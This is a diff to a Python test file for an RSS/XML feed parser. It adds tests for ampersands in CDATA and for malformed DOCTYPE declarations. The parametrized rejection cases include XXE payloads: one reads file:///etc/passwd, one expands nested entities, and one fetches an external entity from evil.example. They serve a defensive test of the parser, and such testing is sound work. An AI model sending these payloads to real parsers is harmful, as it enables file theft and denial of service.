@@ -128,6 +128,20 @@ def test_encodings_are_told_by_the_bytes(encoding: str) -> None:
         assert the_body(text.encode(encoding), "feed.xml") == [SIMPLIFIED]
 
 
+def test_an_ampersand_is_one_in_cdata_and_out_of_it() -> None:
+    for address in (
+        "<![CDATA[https://news.example/?a=1&b=2]]>",
+        "https://news.example/?a=1&amp;b=2",
+        "https://news.example/?a=1&b=2",
+    ):
+        feed = rss(
+            f"<title>题</title><link>{address}</link><description><![CDATA[甲 & 乙&nbsp;丙]]></description>"
+        )
+        (article,) = articles(feed, "feed.xml")
+        assert article.url == "https://news.example/?a=1&b=2"
+        assert texts(article) == ["甲 & 乙 丙"]
+
+
 def test_a_guid_names_an_entry_that_has_no_address() -> None:
     one = "<title>新馆</title><description>第一。</description><guid isPermaLink='false'>n-17</guid>"
     other = rss("<title>别的</title><description>第二。</description>").replace(
@@ -185,6 +199,8 @@ def test_xml_that_is_no_feed_is_one_fault(content: str, what: str) -> None:
     [
         '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
         '<!DOCTYPE rss [<!ENTITY a "哈"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY x "&b;&b;&b;&b;">]>',
+        "<!-- " + "注" * 50_000 + " -->\n<!DOCTYPE rss [<!ENTITY x 'y'>]>",
+        """<!DOCTYPE rss PUBLIC "a>b" 'c>d' [<!ENTITY x 'y'>]>""",
         '<!-- 注 --><!DOCTYPE rss SYSTEM "x.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>',
     ],
 )
